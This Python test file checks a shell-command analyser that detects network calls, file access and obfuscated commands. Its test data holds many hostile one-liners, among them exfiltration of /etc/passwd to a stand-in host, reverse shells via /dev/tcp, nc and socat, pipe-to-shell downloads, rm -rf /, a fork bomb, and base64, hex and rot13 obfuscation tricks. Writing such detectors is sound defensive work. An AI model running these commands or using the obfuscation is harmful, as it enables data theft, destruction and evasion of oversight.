"""What a command would do is seen, however it is written; what cannot be seen is said to be unknown."""

import re
from pathlib import Path

import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st

from validator.analyse.shell import Use, observe
from validator.analyse.shell_actions import ACTIONS
from validator.model.catalog import Catalog
from validator.model.fact import Kind
from validator.model.known import UNKNOWN, Choice, Known, Partial, show
from validator.model.limits import Limits
from validator.rulebook.catalog import load_catalog, parse_command

RULES = Path(__file__).parents[2] / "rules"
CATALOG: Catalog = load_catalog(sorted(RULES.glob("catalog/shell-*.yaml")))
ROLE = re.compile(r"(\w+)=(.*?)(?=\s\w+=|$)", re.DOTALL)
CURL = "network.connect curl host=x.example"


def uses_of(command: Known, limits: Limits | None = None) -> tuple[Use, ...]:
    return observe(command, CATALOG, limits or Limits())


def capabilities_of(command: Known) -> list[str]:
    return [use.capability for use in uses_of(command)]


def fits(use: Use, expected: str) -> bool:
    """Whether a use is what a line such as `fs.read cat path=/etc/passwd` says; `{…}` is unknown text."""
    head = ROLE.sub("", expected).split()
    roles = {role: show(value) for role, value in use.roles.items()}
    return [use.capability, use.name] == head and all(roles.get(role) == text for role, text in ROLE.findall(expected))


# A command, and things it must be seen to do.
SEEN: list[tuple[str, ...]] = [
    # Network.
    ("curl -s http://x.example/s", "network.connect curl url=http://x.example/s scheme=http host=x.example"),
    ("curl https://u:p@x.example:8443/", "network.connect curl host=x.example port=8443"),
    ("curl x.example", CURL),
    ("curl -d @/etc/passwd http://x.example", CURL, "fs.read curl path=/etc/passwd"),
    ("curl -F f=@/etc/passwd http://x.example", "fs.read curl path=/etc/passwd"),
    ("curl -sSLo /tmp/a http://x.example", CURL, "fs.write curl path=/tmp/a"),
    ("curl -sO http://x.example/a.tgz", "fs.write curl path=a.tgz"),
    ("wget --post-file=/etc/shadow http://x.example", "fs.read wget path=/etc/shadow"),
    ("wget http://x.example/a.sh", "fs.write wget path=a.sh"),
    ("nc 1.2.3.4 99 < /etc/passwd", "network.connect nc host=1.2.3.4 port=99", "fs.read < path=/etc/passwd"),
    ("nc -lvp 4444", "network.listen nc"),
    ("nc -e /bin/sh 1.2.3.4 99", "process.shell sh command={…}", "network.connect nc host=1.2.3.4"),
    (
        "socat exec:'bash -li',pty tcp:1.2.3.4:99",
        "process.shell socat command=bash -li",
        "network.connect socat port=99",
    ),
    ("ssh -p 22 me@x.example 'rm -rf /'", "network.connect ssh host=x.example", "fs.delete rm path=/"),
    ("ssh -o ProxyCommand='curl x.example' h", CURL),
    ("scp a.txt me@x.example:/tmp", "network.connect scp host=x.example", "fs.read scp path=a.txt"),
    ("rsync -a /etc me@x.example:/x", "network.connect rsync host=x.example", "fs.read rsync path=/etc"),
    ("dig $(cat /etc/hostname).x.example", "network.resolve dig host={…}.x.example", "fs.read cat path=/etc/hostname"),
    ("ping -c 1 x.example", "network.connect ping host=x.example"),
    ("git clone git@x.example:a/b", "network.connect git host=x.example"),
    ("git -c core.pager='curl x.example' log", CURL),
    ("aws s3 cp a s3://b", "network.connect aws"),
    ("echo x > /dev/tcp/1.2.3.4/99", "network.connect /dev/tcp host=1.2.3.4 port=99"),
    ("exec 5<>/dev/tcp/x.example/80", "network.connect /dev/tcp host=x.example port=80"),
    ("bash -i >& /dev/tcp/1.2.3.4/99 0>&1", "process.shell bash command={…}", "network.connect /dev/tcp host=1.2.3.4"),
    ("python -m http.server 8000", "network.listen http.server port=8000"),
    # Files.
    ("cat /etc/passwd", "fs.read cat path=/etc/passwd"),
    ("cat < /etc/shadow", "fs.read < path=/etc/shadow"),
    ("head -n 3 a b", "fs.read head path=a", "fs.read head path=b"),
    ("grep -r secret /etc", "fs.read grep path=/etc"),
    ("grep -e secret /etc/x", "fs.read grep path=/etc/x"),
    ("cd /etc && cat passwd", "fs.read cat path=/etc/passwd"),
    ("cat ${HOME:0:1}etc${HOME:0:1}passwd", "fs.read cat path=/etc/passwd"),
    ("cat /etc/p?sswd", "fs.read cat path=/etc/p{…}sswd"),
    ("cat /etc/[op]asswd", "fs.read cat path=/etc/{…}asswd"),
    ('cat "$HOME/.ssh/id_rsa"', "fs.read cat path=~/.ssh/id_rsa", "env.read $HOME key=HOME"),
    ("echo hi > ~/.bashrc", "fs.write > path=~/.bashrc"),
    ("echo hi >> log", "fs.write >> path=log"),
    ("ls 2> errors &> all", "fs.write > path=errors", "fs.write &> path=all"),
    ("> /etc/passwd", "fs.write > path=/etc/passwd"),
    ("if true; then ls; fi > out", "fs.write > path=out"),
    ("ls | tee -a out", "fs.write tee path=out"),
    ("cp -r ~/.ssh /tmp", "fs.read cp path=~/.ssh", "fs.write cp path=/tmp"),
    ("cp -t /tmp a b", "fs.read cp path=b", "fs.write cp path=/tmp"),
    ("mv a b", "fs.write mv path=a target=b"),
    ("dd if=/etc/x of=/dev/sda bs=1M", "fs.read dd path=/etc/x", "fs.write dd path=/dev/sda"),
    ("sed -i 's/a/b/' /etc/passwd", "fs.write sed path=/etc/passwd"),
    ("tar xzf a.tgz -C /", "fs.write tar path=/"),
    ("tar -czf /tmp/a.tgz /etc", "fs.read tar path=/etc", "fs.write tar path=/tmp/a.tgz"),
    ("rm -rf -- /", "fs.delete rm path=/"),
    ("rm *.pyc", "fs.delete rm path=./{…}.pyc"),
    ("rm {a,b}.txt", "fs.delete rm path=a.txt", "fs.delete rm path=b.txt"),
    ("rm /x{1..2}", "fs.delete rm path=/x1", "fs.delete rm path=/x2"),
    ("mkfs.ext4 /dev/sda", "fs.delete mkfs.ext4 path=/dev/sda"),
    ("find /x -name y -delete", "fs.list find path=/x", "fs.delete find path=/x"),
    ("find / -exec rm -rf {} \\;", "fs.delete rm path={…}"),
    ("find . -name x | xargs rm", "fs.delete rm path={…}"),
    ("ls -la /tmp", "fs.list ls path=/tmp"),
    ("chmod -R 777 /x", "fs.permission chmod path=/x mode=777"),
    ("chown root:root /x", "fs.permission chown path=/x"),
    ("ln -s /etc/passwd x", "fs.link ln path=/etc/passwd target=x"),
    ("touch a", "fs.write touch path=a"),
    # Processes, users, machine.
    ("kill -9 1234", "process.signal kill pid=1234"),
    ("pkill -f python", "process.signal pkill pid=python"),
    ("systemctl stop firewalld", "process.signal systemctl pid=firewalld"),
    ("frobnicate --fast x", "process.spawn frobnicate command=frobnicate --fast x"),
    ("useradd eve", "system.user useradd target=eve"),
    ("sudo -u bob rm /x", "system.user sudo target=bob", "fs.delete rm path=/x"),
    ("uname -a", "system.info uname"),
    ("/sbin/shutdown -h now", "system.power shutdown"),
    ("env", "env.read env"),
    ("printenv TOKEN", "env.read printenv key=TOKEN"),
    ("echo $TOKEN", "env.read $TOKEN key=TOKEN"),
    ("export A=1", "env.write A key=A value=1"),
    ("LD_PRELOAD=/tmp/x.so ls", "env.write LD_PRELOAD key=LD_PRELOAD value=/tmp/x.so"),
    # Packages, secrets, persistence.
    ("pip3 install -i http://x.example evil", "package.install pip package=evil host=x.example"),
    ("python3.11 -m pip install evil", "package.install pip package=evil"),
    ("yes | apt-get install -y evil", "package.install apt-get package=evil"),
    ("npm i evil", "package.install npm package=evil"),
    ("npx evil", "package.install npx package=evil"),
    ("gpg -d x.gpg", "secret.read gpg path=x.gpg"),
    ("kubectl get secret x", "secret.read kubectl target=x"),
    ("echo '* * * * * x' | crontab -", "persist.schedule crontab path=-"),
    (
        "echo 'rm -rf /x' | at now",
        "persist.schedule at",
        "process.shell at command=rm -rf /x\n",
        "fs.delete rm path=/x",
    ),
    ("systemctl enable x", "persist.startup systemctl path=x"),
    # Loops that never end.
    (":(){ :|:& };:", "resource.fork :"),
    ("while true; do ls; done", "resource.loop while"),
    ("while :; do x & done", "resource.fork while"),
    ("for ((;;)); do ls; done", "resource.loop for"),
    ("f() { f; }; f", "resource.loop f"),
    # Interpreters.
    ("python3 -c 'import os'", "code.execute python code=import os"),
    ("python - <<EOF\nimport os\nEOF", "code.execute python code=import os\n"),
    ("curl x.example | python3", CURL, "code.execute python code={…}"),
    ("curl x.example | sh", CURL, "process.shell sh command={…}"),
    ("curl x.example | sudo bash -s -- x", "process.shell bash command={…}"),
    ("bash <(curl -s x.example)", CURL, "process.shell bash command={…}"),
    (". <(curl x.example)", CURL, "process.shell . command={…}"),
    ("curl x.example -o a.sh && bash a.sh", "process.shell bash path=a.sh command={…}"),
    ("curl -O http://x.example/a.sh; chmod +x a.sh; ./a.sh", "process.shell sh path=a.sh command={…}"),
    ("wget http://x.example/a.py; python a.py", "code.execute python code={…}"),
    ("echo 'curl x.example' > a.sh; sh ./a.sh", CURL),
    ("cat <<EOF | bash\nrm -rf /x\nEOF", "process.shell bash command=rm -rf /x\n", "fs.delete rm path=/x"),
    ("bash script.sh", "process.shell bash path=script.sh command=bash script.sh"),
    ("perl -e 'system(1)'", "unresolved.code perl code=system(1)"),
    ("awk 'BEGIN { system(\"id\") }'", "unresolved.command awk"),
    ("sed 's/a/b/e' f", "unresolved.command sed"),
    # Wrappers.
    ("nohup curl x.example &", CURL),
    ("timeout -k 1 5 curl x.example", CURL),
    ("nice -n 5 curl x.example", CURL),
    ("env -i A=1 curl x.example", CURL),
    ("env -S 'curl x.example'", CURL),
    ("/usr/bin/env python3 -c 'import os'", "code.execute python code=import os"),
    ("busybox wget http://x.example", "network.connect wget host=x.example"),
    ("exec curl x.example", CURL),
    ("command curl x.example", CURL),
    ("builtin eval 'curl x.example'", CURL),
    ("time -p curl x.example", CURL),
    ("coproc n { curl x.example; }", CURL),
    ("watch -n 1 'curl x.example'", CURL),
    ("su bob -c 'curl x.example'", "process.shell su command=curl x.example", CURL),
    ("chroot /x curl x.example", CURL),
    ("docker run --rm -v /:/host alpine curl x.example", CURL),
    ("echo x.example | xargs curl", CURL),
    ("echo x.example | xargs -I{} sh -c 'curl {}'", CURL),
    ("xargs curl < urls", "network.connect curl host={…}"),
    ("trap 'curl x.example' EXIT", CURL),
    ("alias ls='curl x.example'", CURL),
    ("tar cf a b --checkpoint-action=exec='curl x.example'", CURL),
    # Structure.
    ("true && (curl x.example) || ls", CURL),
    ("if ls; then curl x.example; fi", CURL),
    ("case $1 in a|b) curl x.example;; esac", CURL),
    ("until ls; do curl x.example; done", CURL),
    ("for p in wget curl; do $p x.example; done", CURL, "network.connect wget host=x.example"),
    ("f() { curl $1; }; f x.example", CURL),
    ("function f { curl x.example; }", CURL),
    ("{ curl x.example; }", CURL),
    ("! curl x.example", CURL),
    ("[[ -f $(curl x.example) ]]", CURL),
    ("echo $((1 + $(curl x.example)))", CURL),
    ("((curl x.example) | (sh))", CURL, "process.shell sh command={…}"),
    ("echo ${a[$(curl x.example)]}", CURL),
    ("for ((i=$(curl x.example); i<3; i++)); do ls; done", CURL),
    ("cat <<EOF\n$X `curl x.example`\nEOF", CURL),
    ("cat <<A <<'B'\n1\nA\n2\nB\ncurl x.example", CURL),
    ('cat <<-E"O"F\n\tx\n\tEOF\ncurl x.example', CURL),
    ("ls # nothing\ncurl x.example", CURL),
    ("ls \\\n | cu\\\nrl x.example", CURL),
    # Words in disguise.
    ('c""url x.example', CURL),
    ("c\\url x.example", CURL),
    ("cu''rl x.example", CURL),
    ("$'\\x63url' x.example", CURL),
    ("$'\\143\\u0075rl' x.example", CURL),
    ('$"curl" x.example', CURL),
    ("/usr/bin/curl x.example", CURL),
    ("X=curl; $X x.example", CURL),
    ("X=cu; X+=rl; $X x.example", CURL),
    ("X='curl x.example'; $X", CURL),
    ('cmd=(curl x.example); "${cmd[@]}"', CURL),
    ('set -- curl x.example; "$@"', CURL),
    ("read c <<< 'curl x.example'; $c", CURL),
    ("${X:-curl} x.example", CURL),
    ("X=CURL; ${X,,} x.example", CURL),
    ("X=xcurlx; ${X:1:4} x.example", CURL),
    ("X=cQrl; ${X/Q/u} x.example", CURL),
    ("X=curl.sh; ${X%.sh} x.example", CURL),
    ("X=curl; Y=X; ${!Y} x.example", CURL),
    ("cu$1rl x.example", CURL),
    ("curl${IFS}x.example", CURL),
    ("{curl,x.example}", CURL),
    ("c{u..u}rl x.example", CURL),
    ("$(echo curl) x.example", CURL),
    ("`echo curl` x.example", CURL),
    ("ls `ls \\`curl x.example\\``", CURL),
    ("eval 'cu''rl' x.example", CURL, "process.shell eval"),
    ("bash -xc 'curl $1' _ x.example", CURL),
    ("sh -c 'sh -c \"curl x.example\"'", CURL),
    ("echo Y3VybCB4LmV4YW1wbGU= | base64 -d | sh", CURL),
    ("base64 --decode <<< Y3VybCB4LmV4YW1wbGU= > a; bash a", CURL),
    ("openssl base64 -d <<< Y3VybCB4LmV4YW1wbGU= | sh", CURL),
    ("echo 6375726c20782e6578616d706c65 | xxd -r -p | sh", CURL),
    ("printf '\\x63url %s' x.example | sh", CURL),
    ("echo elpmaxe.x lruc | rev | sh", CURL),
    ("echo phey k.rknzcyr | tr a-z n-za-m | sh", CURL),
    ("(echo curl x.example) | cat | sh", CURL),
]

# Commands that do nothing anyone needs to know of.
SILENT = ["", "  # nothing", "echo hi", "true && false", "printf '%s' a", "cd /tmp", "date", "sleep 1", "X=1; echo $X", "[ 1 = 1 ]",
          "a=(1 2); echo ${a[0]}", "echo hi > /dev/null 2>&1", "f() { echo $1; }; f x", "X=curl; X=echo; $X hi", "echo '$(id)' '`id`'",
          "for i in 1 2; do echo $i; done", "echo \\$(id", "seq 3 | sort | uniq -c | wc -l"]  # fmt: skip

# Commands of which something cannot be worked out.
UNRESOLVED = [
    "$UNSET x", "/b?n/c?t x", "$(curl x.example) x", "eval \"$(curl x.example)\"", "echo 'open", "echo \"open", "ls )", "ls |", "if ls",
    "ls ;; ls", "${ curl x.example; }", "$(" * 100 + "ls" + ")" * 100, "{ " * 100 + "ls" + " ;}" * 100, "c=$(cat f); $c",
    "X=curl; if ls; then X=echo; fi; $X x.example", "while read l; do $l; done < f", "X='a[$(id)]'; echo $((X))", "echo ${X@P}",
    "sh -c \"ls $X\"", "cu*rl x", "echo x | frobnicate | sh -c \"$(cat)\"", "curl\0 x", "declare -n r=x; $r y",
]  # fmt: skip


@pytest.mark.parametrize(("command", "expected"), [(row[0], row[1:]) for row in SEEN], ids=[row[0] for row in SEEN])
def test_what_a_command_does_is_seen(command: str, expected: tuple[str, ...]) -> None:
    uses = uses_of(command)
    missing = [text for text in expected if not any(fits(use, text) for use in uses)]
    assert not missing, uses


@pytest.mark.parametrize("command", SILENT)
def test_a_harmless_command_gives_nothing(command: str) -> None:
    assert uses_of(command) == ()


@pytest.mark.parametrize("command", UNRESOLVED, ids=lambda command: command[:40])
def test_what_cannot_be_worked_out_is_never_silent(command: str) -> None:
    assert any(use.kind is Kind.UNRESOLVED and use.capability.startswith("unresolved.") for use in uses_of(command))


def test_uses_come_in_the_order_of_the_line() -> None:
    assert capabilities_of("cat a > b; rm c") == ["process.spawn", "fs.read", "fs.write", "process.spawn", "fs.delete"]


def test_the_same_use_is_told_once() -> None:
    assert len(uses_of("uname; uname; uname")) == len(uses_of("uname"))


def test_python_in_a_command_is_handed_back_as_code() -> None:
    assert [use.code for use in uses_of("python -c 'import os'") if use.code] == ["import os"]


def test_python_that_is_not_fully_known_is_not_handed_back() -> None:
    found = [use for use in uses_of('python -c "import $X"') if use.capability == "code.execute"]
    assert [(use.code, use.roles["code"]) for use in found] == [(None, Partial(("import ", UNKNOWN)))]


def test_a_list_of_words_has_no_shell() -> None:
    assert [show(use.roles["command"]) for use in uses_of(("frobnicate", "$(id)", "a; b"))] == ["frobnicate $(id) a; b"]


def test_a_shell_in_a_list_of_words_is_followed() -> None:
    assert "fs.delete" in capabilities_of(("bash", "-c", "rm -rf /x"))


def test_an_unknown_word_keeps_the_program() -> None:
    assert [(use.capability, use.kind) for use in uses_of(("ls", UNKNOWN))] == [
        ("process.spawn", Kind.CALL),
        ("fs.list", Kind.CALL),
    ]


def test_an_unknown_piece_of_a_line_keeps_the_program_and_is_unresolved() -> None:
    uses = uses_of(Partial(("ls ", UNKNOWN)))
    assert {(use.capability, use.kind) for use in uses} == {
        ("unresolved.command", Kind.UNRESOLVED),
        ("process.spawn", Kind.CALL),
        ("fs.list", Kind.CALL),
    }


def test_the_host_before_an_unknown_piece_is_kept() -> None:
    uses = uses_of(("curl", Partial(("https://x.example/", UNKNOWN))))
    assert [use.roles["host"] for use in uses if use.capability == "network.connect"] == ["x.example"]


@pytest.mark.parametrize("command", [UNKNOWN, None, 3, Partial((UNKNOWN,)), (UNKNOWN, "x"), "x" * 200_000])
def test_an_unknown_command_is_unresolved(command: Known) -> None:
    assert [use.capability for use in uses_of(command)] == ["unresolved.command"]


def test_an_unknown_program_that_may_be_python_is_read_as_python() -> None:
    assert "package.install" in capabilities_of((UNKNOWN, "-m", "pip", "install", "x"))


def test_every_choice_is_followed() -> None:
    assert {"fs.list", "fs.delete"} <= set(capabilities_of(Choice(("ls", "rm x"))))


def test_bytes_are_read_as_text() -> None:
    assert capabilities_of(b"rm x") == capabilities_of("rm x")


def test_shells_inside_shells_are_followed_to_the_limit() -> None:
    command = "rm x"
    for _ in range(3):
        command = f"eval {command}"
    assert "fs.delete" in capabilities_of(command)
    assert "unresolved.command" in [use.capability for use in uses_of(command, Limits(nested=1))]


@pytest.mark.parametrize(
    "piece", ["ls;", "ls|", "ls&&", "sudo ", "eval ", "$(", "((", "a[", "`", "{a,", "for a in 1 2 3 4; do "]
)
def test_too_much_work_ends_in_a_use(piece: str) -> None:
    assert uses_of(piece * 9_000 + "ls", Limits(steps=6_000))


def test_running_out_of_steps_is_told() -> None:
    assert "unresolved.budget" in [use.capability for use in uses_of("uname;" * 100, Limits(steps=100))]


@given(st.text(max_size=60) | st.text("abcurl $(){}[]<>|&;'\"`\\\n=!#*?,.-/@:~0123%^+", max_size=60))
def test_no_text_is_too_odd(text: str) -> None:
    assert all(isinstance(use, Use) for use in uses_of(text))


WORDS = "ls $( ) { } ( ; && | if then fi for do done case esac in <<E E > < x X=1 $X \" ' ` [[ ]] (( )) sh -c eval \n".split(
    " "
)


@given(st.lists(st.sampled_from(WORDS), max_size=25).map(" ".join))
def test_no_mix_of_words_is_too_odd(text: str) -> None:
    assert all(isinstance(use, Use) for use in uses_of(text))


def test_the_table_speaks_only_of_capabilities_and_actions_there_are() -> None:
    capabilities = set(yaml.safe_load((RULES / "capabilities.yaml").read_text())) | {None}
    entries = [entry for group in CATALOG.commands.values() for entry in group]
    assert [entry for entry in entries if entry.capability not in capabilities] == []
    assert [entry for entry in entries if entry.action is not None and entry.action not in ACTIONS] == []


def test_the_table_is_read_as_documented() -> None:
    entry = parse_command("cp", "fs.read", "?, -r, sub cmd: *path -/-t | -t=target -S -> !words")
    assert [(slot.role, slot.rest, slot.unless) for slot in entry.slots] == [("path", True, ()), (None, False, ("-t",))]
    assert (entry.when, entry.bound, entry.action) == ((("-r",), ("sub", "cmd")), True, "!words")
    assert dict(entry.options) == {"-t": "target", "-S": None}
